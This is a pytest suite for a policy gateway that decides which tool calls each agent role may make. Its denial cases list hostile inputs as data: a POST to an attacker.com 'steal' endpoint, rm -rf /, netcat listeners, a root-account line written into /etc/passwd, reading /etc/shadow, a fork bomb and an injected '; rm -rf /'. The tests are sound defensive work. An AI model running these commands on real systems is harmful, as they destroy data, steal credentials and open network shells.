"""The literal verdicts of the seeds: what each role can do and cannot do, with the seeds' own data."""

from typing import Any

import pytest

from services.policy_gateway.decision.decide import decide
from services.policy_gateway.decision.facts import Facts
from services.policy_gateway.decision.plans import (
    DockerPlan,
    FetchPlan,
    GitPlan,
    LuaPlan,
    Mount,
    Place,
    ReadPlan,
    ShellPlan,
    WritePlan,
)
from services.policy_gateway.decision.verdict import Allow, Deny
from tests.unit.policy_gateway.decision.verdicts import ROLES, allowed, denied

CODE = Place("code", ())
FEATURE = 'defmodule Feature do\n  def hello, do: "world"\nend\n'
CODER_LUA = """
function main(code)
  if string.find(code, "TODO") then
    return {quality: "poor", reason: "Contains TODOs"}
  end
  return {quality: "good"}
end
"""
WORK = {"host": "/code", "cont": "/work", "ro": True}


def cmd(*words: str) -> dict[str, Any]:
    return {"cmd": list(words)}


@pytest.mark.parametrize(
    ("role", "tool", "args", "opts", "plan"),
    [
        ("coder", "fs", {"write": "/code/lib/feature.ex", "content": FEATURE}, {}, WritePlan),  # G01
        ("coder", "fs", {"read": "/code/lib/feature.ex"}, {}, ReadPlan),  # G02
        ("coder", "shell", cmd("mix", "format"), {}, ShellPlan),  # G03
        ("coder", "shell", cmd("mix", "compile"), {}, ShellPlan),
        ("coder", "git", cmd("add", "."), {}, GitPlan),  # G04
        ("coder", "git", cmd("commit", "-m", "Add feature"), {}, GitPlan),
        ("coder", "git", cmd("status"), {}, GitPlan),
        ("coder", "git", cmd("diff"), {}, GitPlan),
        ("coder", "git", cmd("log"), {}, GitPlan),
        (
            "coder",
            "lua",
            {"src": CODER_LUA, "argv": ["# TODO"]},
            {},
            LuaPlan,
        ),  # G05: whether it compiles is Lua's to say
        ("tester", "shell", cmd("mix", "test"), {}, ShellPlan),  # G18
        ("tester", "shell", cmd("cargo", "test"), {}, ShellPlan),
        ("critic", "fs", {"read": "/code/lib/auth.ex"}, {}, ReadPlan),  # G21
        ("critic", "lua", {"src": CODER_LUA, "argv": ["x"]}, {"timeout": 10_000}, LuaPlan),
        ("researcher", "http", {"url": "https://hexdocs.pm/phoenix/Phoenix.html"}, {}, FetchPlan),  # G26
        ("researcher", "http", {"url": "https://docs.rs/tokio/latest/tokio/"}, {}, FetchPlan),
        ("researcher", "http", {"url": "https://github.com/elixir-lang/elixir/blob/main/README.md"}, {}, FetchPlan),
        ("researcher", "fs", {"read": "/code/lib/auth.ex"}, {}, ReadPlan),
        ("admin", "git", cmd("push", "--force", "origin", "main"), {}, GitPlan),  # G30
        ("admin", "fs", {"write": "/deploy/config.yaml", "content": "production: true"}, {}, WritePlan),
        ("admin", "shell", cmd("kubectl", "apply", "-f", "deployment.yaml"), {}, ShellPlan),
        (
            "admin",
            "http",
            {"url": "https://api.stripe.com/v1/charges", "headers": {"Authorization": "x"}},
            {},
            FetchPlan,
        ),
        ("admin", "docker", {"image": "production:latest", "cmd": ["deploy.sh"]}, {}, DockerPlan),
        ("admin", "shell", cmd("./long-running-migration.sh"), {"timeout": 7_200_000}, ShellPlan),
    ],
)
def test_allows_what_the_seed_allows(role: str, tool: str, args: Any, opts: Any, plan: type) -> None:
    assert isinstance(allowed(role, tool, args, opts), plan)


def test_a_written_file_is_planned_to_the_byte() -> None:
    plan = allowed("coder", "fs", {"write": "/code/lib/feature.ex", "content": FEATURE})
    assert plan == WritePlan(Place("code", ("lib", "feature.ex")), FEATURE.encode())
    assert plan == allowed("coder", "fs", {"write": "/code/lib/feature.ex", "data": FEATURE})  # C21


def test_a_testers_container_is_planned_with_its_limits() -> None:  # G17, C16
    args = {"image": "hexpm/elixir:1.18", "cmd": ["mix", "test"], "mounts": [WORK], "working_dir": "/work"}
    expected = DockerPlan(
        "hexpm/elixir:1.18", ("mix", "test"), "/work", (Mount(CODE, "/work", True),), 2.0, 2 * 1024**3
    )
    in_opts = {"cpu": 2, "mem": "2g", "timeout": 600_000}
    assert allowed("tester", "docker", args, in_opts) == expected
    assert allowed("tester", "docker", args | {"cpu": 2, "mem": "2g"}, {"timeout": 600_000, "net": "deny"}) == expected
    assert allowed("tester", "docker", args | {"cpu": 2, "mem": "2g"}, in_opts) == expected
    code, detail = denied("tester", "docker", args | {"cpu": 4}, in_opts)
    assert (code, detail["field"], detail["args"], detail["opts"]) == ("bad_args", "cpu", 4.0, 2.0)


@pytest.mark.parametrize(
    ("role", "tool", "args", "opts", "code", "detail"),
    [
        ("coder", "http", {"url": "https://attacker.com/steal", "method": "post", "body": "x"}, {}, "forbidden_tool", {"tool": "http"}),  # G06
        ("coder", "git", cmd("push", "--force", "origin", "main"), {}, "dangerous_git_operation", {"argv": ["push", "--force", "origin", "main"], "matched": "push --force"}),  # G07, C8
        ("coder", "git", cmd("reset", "--hard", "HEAD~50"), {}, "dangerous_git_operation", {"argv": ["reset", "--hard", "HEAD~50"], "matched": "reset --hard"}),  # G08
        ("coder", "shell", cmd("rm", "-rf", "/"), {}, "forbidden_command", {"command": ["rm", "-rf", "/"], "allowed": ["mix", "git", "elixir", "gleam", "cargo", "npm", "bun"]}),  # G09, C10
        ("coder", "shell", cmd("rm", "-rf", ".git/logs"), {}, "forbidden_command", {"command": ["rm", "-rf", ".git/logs"]}),
        ("coder", "shell", cmd("nc", "-l", "4444"), {}, "forbidden_command", {"command": ["nc", "-l", "4444"]}),
        ("coder", "shell", cmd("nc", "-l", "-p", "4444"), {}, "forbidden_command", {"command": ["nc", "-l", "-p", "4444"]}),
        ("coder", "fs", {"write": "/etc/passwd", "content": "hacker::0:0:::"}, {}, "forbidden_path", {"path": "/etc/passwd"}),  # G10
        ("coder", "docker", {"image": "alpine", "cmd": ["sh", "-c", "cat /etc/shadow"]}, {}, "forbidden_tool", {"tool": "docker"}),  # G11
        ("coder", "shell", cmd("sleep", "3600"), {"timeout": 3_600_000}, "timeout_exceeded", {"max": 300_000, "requested": 3_600_000}),  # G12, C9
        ("coder", "shell", cmd("mix", "analyze", "--depth", "infinity"), {"timeout": 1_000_000}, "timeout_exceeded", {"max": 300_000, "requested": 1_000_000}),  # G13
        ("coder", "http", {"method": "listen", "port": 8888}, {}, "forbidden_tool", {"tool": "http"}),  # G16, C9
        ("tester", "fs", {"write": "/code/lib/hack.ex", "content": "# backdoor"}, {}, "forbidden_tool", {"tool": "fs"}),  # G19
        ("tester", "fs", {"read": "/code/lib/auth.ex"}, {}, "forbidden_tool", {"tool": "fs"}),
        ("tester", "git", cmd("commit", "-m", "Tamper"), {}, "forbidden_tool", {"tool": "git"}),
        ("tester", "http", {"url": "https://api.com"}, {}, "forbidden_tool", {"tool": "http"}),
        ("tester", "lua", {"src": "return 42"}, {}, "forbidden_tool", {"tool": "lua"}),
        ("tester", "docker", {"image": "alpine", "cmd": ["sh", "-c", ":(){ :|:& };:"]}, {}, "docker_resource_limits_required", {"missing": ["cpu", "mem"]}),  # G20
        ("tester", "docker", {"image": "heavy/image", "cmd": ["x"], "mounts": [], "cpu": 2, "mem": "4g"}, {}, "forbidden_image", {"image": "heavy/image"}),  # C17
        ("critic", "fs", {"write": "/code/lib/improved_auth.ex", "content": "# improved version"}, {}, "write_access_denied", {"path": "/code/lib/improved_auth.ex"}),  # G22
        ("critic", "shell", cmd("ls", "-la"), {}, "forbidden_tool", {"tool": "shell"}),  # G23
        ("critic", "git", cmd("log"), {}, "forbidden_tool", {"tool": "git"}),  # G24
        ("critic", "docker", {"image": "alpine", "cmd": ["sh"]}, {}, "forbidden_tool", {"tool": "docker"}),
        ("critic", "http", {"url": "https://api.com"}, {}, "forbidden_tool", {"tool": "http"}),
        ("critic", "lua", {"src": "function main() while true do end end", "argv": []}, {"timeout": 60_000}, "timeout_exceeded", {"max": 30_000, "requested": 60_000}),  # G25, C58
        ("researcher", "http", {"url": "https://evil.com/malware.js"}, {}, "forbidden_url", {"url": "https://evil.com/malware.js"}),  # G27
        ("researcher", "http", {"url": "https://api.stripe.com/v1/charges"}, {}, "forbidden_url", {"url": "https://api.stripe.com/v1/charges"}),
        ("researcher", "http", {"url": "https://elixir-lang.org/getting-started"}, {}, "forbidden_url", {"hosts": ["docs.rs", "github.com", "hexdocs.pm"]}),  # G55, C22
        ("researcher", "fs", {"write": "/code/lib/researched.ex", "content": "# findings"}, {}, "write_access_denied", {}),  # G28
        ("researcher", "shell", cmd("curl", "https://hexdocs.pm"), {}, "forbidden_tool", {"tool": "shell"}),  # G29
        ("researcher", "git", cmd("clone", "https://github.com/..."), {}, "forbidden_tool", {"tool": "git"}),
        ("researcher", "docker", {"image": "alpine", "cmd": ["sh"]}, {}, "forbidden_tool", {"tool": "docker"}),
        ("researcher", "lua", {"src": "return 42"}, {}, "forbidden_tool", {"tool": "lua"}),
        ("wizard", "shell", cmd("mix", "test"), {}, "unknown_role", {"role": "wizard"}),  # G31
        ("coder", "telepathy", {}, {}, "forbidden_tool", {"tool": "telepathy"}),  # G42
        ("admin", "telepathy", {}, {}, "forbidden_tool", {"tool": "telepathy"}),
        ("coder", "shell", {"cmd": "mix format; rm -rf /"}, {}, "bad_args", {"field": "cmd"}),  # G48
        ("coder", "shell", cmd("mix format"), {}, "forbidden_command", {"command": ["mix format"]}),  # T10, C14
    ],
)  # fmt: skip
def test_refuses_what_the_seed_refuses(role: str, tool: str, args: Any, opts: Any, code: str, detail: Any) -> None:
    found, told = denied(role, tool, args, opts)
    assert found == code
    assert detail.items() <= told.items()


def test_shell_characters_are_plain_data() -> None:  # G48
    plan = allowed("coder", "shell", cmd("mix", "format; rm"))
    assert plan == ShellPlan("mix", ("mix", "format; rm"), CODE, "coder")


def test_git_through_the_shell_goes_to_the_git_rules() -> None:  # G53, C11
    assert allowed("coder", "shell", cmd("git", "status")) == GitPlan(("status",), CODE, False, "git")
    code, detail = denied("coder", "shell", cmd("git", "push", "--force"))
    assert (code, detail["matched"]) == ("dangerous_git_operation", "push --force")
    assert denied("tester", "shell", cmd("git", "status"))[0] == "forbidden_command"


@pytest.mark.parametrize(
    ("argv", "matched"),
    [
        (["push", "-f"], "push -f"),
        (["push", "--force-with-lease"], "push --force-with-lease"),
        (["push", "origin", "+main"], "push +main"),
        (["-c", "alias.p=push --force", "p"], "-c"),
        (["reflog", "expire", "--all"], "reflog expire"),
        (["gc", "--prune=now"], "gc --prune=now"),
        (["stash", "drop"], "stash drop"),
        (["commit", "--amend"], "commit --amend"),
        (["checkout", "--", "lib/a.ex"], "checkout -- lib/a.ex"),
    ],
)
def test_a_refusal_of_git_names_the_words_in_the_way(argv: list[str], matched: str) -> None:  # G53, C8
    assert denied("coder", "git", {"cmd": argv})[1]["matched"] == matched


@pytest.mark.parametrize(
    ("alias", "role"),
    [
        ("project_manager", "architect"),
        ("architecture_analyst", "architect"),
        ("code_developer", "coder"),
        ("quality_engineer", "tester"),
        ("security_analyst", "critic"),
    ],
)
def test_an_alias_has_the_rights_of_its_role(alias: str, role: str) -> None:  # C18
    for tool in ("git", "fs", "shell", "http", "docker", "lua"):
        for args in ({"read": "/code/x"}, {"cmd": ["mix", "test"]}, {"src": "return 1"}, {}):
            assert decide(ROLES, alias, tool, args, None) == decide(ROLES, role, tool, args, None)


def test_the_architect_reads_and_computes() -> None:  # C18
    assert allowed("architect", "fs", {"read": "/code/README.md"})
    verdict = decide(ROLES, "architect", "lua", {"src": "return 1"}, None)
    assert isinstance(verdict, Allow)
    assert verdict.timeout_ms == 60_000
    assert denied("architect", "fs", {"write": "/code/x", "content": ""})[0] == "write_access_denied"


@pytest.mark.parametrize(
    ("role", "opts", "timeout_ms"),
    [("coder", None, 300_000), ("coder", {"timeout": 60_000}, 60_000), ("admin", None, 3_600_000)],
)
def test_every_call_has_a_deadline(role: str, opts: Any, timeout_ms: int) -> None:  # C23
    verdict = decide(ROLES, role, "fs", {"read": "/code/x"}, opts)
    assert isinstance(verdict, Allow)
    assert verdict.timeout_ms == timeout_ms


@pytest.mark.parametrize("timeout", [0, -1, True, 1.5, "60000", None, [], float("nan")])
def test_a_timeout_is_a_number_of_milliseconds(timeout: Any) -> None:
    assert denied("admin", "fs", {"read": "/x"}, {"timeout": timeout})[0] == "bad_timeout"


def test_a_huge_timeout_is_refused_in_every_role() -> None:
    assert denied("coder", "fs", {}, {"timeout": 10**5000})[1] == {"max": 300_000, "requested": (1 << 53) - 1}
    assert denied("admin", "fs", {"read": "/x"}, {"timeout": 10**5000})[0] == "bad_timeout"


def test_a_role_is_bound_to_its_task() -> None:  # G41, C19
    args = {"cmd": ["rm", "-rf", "/"]}
    bound = Facts(bound_role="coder")
    assert denied("admin", "shell", args, None, bound) == ("role_mismatch", {"bound": "coder", "claimed": "admin"})
    assert denied("coder", "shell", args, {"policy": "admin"}) == (
        "role_mismatch",
        {"bound": "coder", "claimed": "admin"},
    )
    assert denied("coder", "shell", args, {"role": 7})[0] == "role_mismatch"
    assert denied("coder", "shell", args, {"timeout": 10**9, "policy": "admin"})[0] == "role_mismatch"
    assert allowed("coder", "git", {"cmd": ["status"]}, {"policy": "coder"}, Facts(bound_role="code_developer"))
    assert denied("coder", "git", {"cmd": ["status"]}, None, Facts(bound_role="nobody"))[0] == "role_mismatch"


def test_checks_come_in_their_order() -> None:  # C9
    wrong_all_over = {"write": "/etc/x", "evil": 1}
    opts = {"timeout": 10**9, "policy": "admin", "evil": 1}
    assert denied("nobody", "http", wrong_all_over, opts, Facts(bound_role="coder"))[0] == "unknown_role"
    assert denied("critic", "http", wrong_all_over, opts)[0] == "role_mismatch"
    del opts["policy"]
    assert denied("critic", "http", wrong_all_over, opts)[0] == "forbidden_tool"
    assert denied("critic", "fs", wrong_all_over, opts)[0] == "write_access_denied"
    assert denied("coder", "fs", wrong_all_over, opts)[0] == "timeout_exceeded"
    del opts["timeout"]
    assert denied("coder", "fs", wrong_all_over, opts)[0] == "forbidden_path"
    assert denied("coder", "fs", wrong_all_over | {"write": "/code/x", "content": ""}, opts)[0] == "bad_args"


def test_an_admin_call_of_a_task_waits_for_its_human() -> None:  # C20
    waiting = Facts(bound_role="admin", approved=False)
    assert denied("admin", "shell", cmd("deploy"), None, waiting) == ("approval_required", {"role": "admin"})
    assert denied("admin", "shell", {"cmd": []}, None, waiting)[0] == "bad_args"
    assert allowed("admin", "shell", cmd("deploy"), None, waiting._replace(approved=True))


def test_a_task_has_sixty_requests() -> None:
    args = {"url": "https://docs.rs/x"}
    assert allowed("researcher", "http", args, None, Facts(calls_made=59))
    code, detail = denied("researcher", "http", args, None, Facts(calls_made=60))
    assert (code, detail) == ("call_limit_exceeded", {"tool": "http", "max": 60, "made": 60})


def test_a_profile_chooses_the_programs() -> None:  # C60
    python = Facts(profile="python")
    assert allowed("coder", "shell", cmd("ruff", "check", "."), None, python)
    assert allowed("tester", "shell", cmd("pytest", "-q"), None, python)
    assert denied("coder", "shell", cmd("mix", "test"), None, python)[1]["allowed"] == [
        "python",
        "python3",
        "ruff",
        "git",
    ]
    assert denied("coder", "shell", cmd("mix", "test"), None, Facts(profile="none"))[1]["allowed"] == []


def test_wrong_words_of_a_checkout_never_reach_files() -> None:
    assert allowed("coder", "git", cmd("checkout", "README.md")) == GitPlan(
        ("checkout", "README.md", "--"), CODE, True, "git"
    )
    assert allowed("coder", "git", cmd("reset", "HEAD", "main")) == GitPlan(
        ("reset", "HEAD", "--", "main"), CODE, False, "git"
    )
    assert not isinstance(decide(ROLES, "coder", "git", cmd("add", "."), None), Deny)
